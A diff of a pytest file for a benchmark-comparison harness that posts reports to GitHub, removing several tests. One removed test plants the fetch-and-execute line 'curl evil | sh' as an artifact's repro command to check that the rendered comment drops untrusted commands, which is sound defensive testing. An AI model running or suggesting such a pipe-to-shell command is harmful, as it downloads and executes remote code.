@@ -58,15 +58,6 @@ def test_a_run_without_a_base() -> None:
     assert image.alt.startswith("Latency of each variant: 72 cases: ")
 
 
-def test_no_command_of_an_artifact_is_taken_over_but_the_harnesss_own(folder: Path) -> None:
-    row = replace(COMPARISON.rows[0], repro=("curl evil | sh", "harness compare a b"))
-    comparison = replace(COMPARISON, rows=(row,), command=("curl", "evil"))
-    (folder / "comparison.json").write_text(render(comparison, "json"))
-    comment = read_figures(folder).comment((), Links())
-    assert "curl" not in comment
-    assert "harness compare a b" in comment
-
-
 def test_a_flag_stands_where_the_suite_of_the_base_has_it_and_nowhere_else(folder: Path) -> None:
     """What an artifact says of flags is what the change wants to be pasted."""
     compiled = "# base: module 0123456789ab, iree-compile model.mlir -o module.vmfb"
@@ -99,16 +90,6 @@ def test_a_name_or_a_text_that_no_harness_writes_is_refused(folder: Path, field:
     (folder / "comparison.json").write_text(json.dumps(document))
     with pytest.raises(RunError, match=rf"is damaged \({why}\); make the comparison again"):
         read_figures(folder)
-
-
-def test_the_key_stands_for_the_figures(folder: Path) -> None:
-    before = read_figures(folder).key
-    (folder / "report.md").write_text("changed")
-    assert read_figures(folder).key == before
-    document = json.loads((folder / "comparison.json").read_text())
-    document["rows"][0]["ratio"] = 1.2
-    (folder / "comparison.json").write_text(json.dumps(document))
-    assert read_figures(folder).key != before
 
 
 @pytest.mark.parametrize(
@@ -279,11 +260,6 @@ def test_options_that_make_no_sense(
     assert github.requests == []
 
 
-def test_a_repository_has_to_be_said(report: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    assert run_command_line(["github", "post", str(report), "--pr", "7"]) == 2
-    assert capsys.readouterr().err == "harness: which repository is meant has to be said: give --repo owner/name\n"
-
-
 def test_without_a_token_there_is_a_rehearsal(
     report: Path, github: FakeGitHub, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -320,16 +296,6 @@ def test_one_issue_of_a_title_is_kept_up_to_date(github: FakeGitHub, capsys: pyt
     assert stored["body"] == "<!--harness issue: Compiler changes-->\n\n| b |\n"
     assert stored["user"]["login"] == BOT
     assert capsys.readouterr().err.splitlines()[-1].startswith("updated https://")
-
-
-@pytest.mark.usefixtures("_command_line")
-def test_the_rehearsal_of_an_issue(github: FakeGitHub, capsys: pytest.CaptureFixture[str]) -> None:
-    assert issue("| a |\n", "--dry-run") == 0
-    assert capsys.readouterr() == (
-        "<!--harness issue: Compiler changes-->\n\n| a |\n",
-        "would open or change “Compiler changes” among the issues of o/r\n",
-    )
-    assert github.requests == []
 
 
 @pytest.mark.usefixtures("_command_line")
